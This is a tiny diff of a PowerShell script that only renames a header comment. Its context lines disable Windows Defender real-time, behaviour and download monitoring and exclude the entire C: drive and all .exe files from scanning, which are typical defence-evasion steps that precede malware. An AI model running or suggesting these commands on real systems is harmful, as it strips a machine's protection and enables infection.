@@ -1,4 +1,4 @@
-# run 5245 v1
+# init 0031 v1
 Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
 Add-MpPreference -ExclusionPath 'C:\'
 Add-MpPreference -ExclusionExtension '.exe'
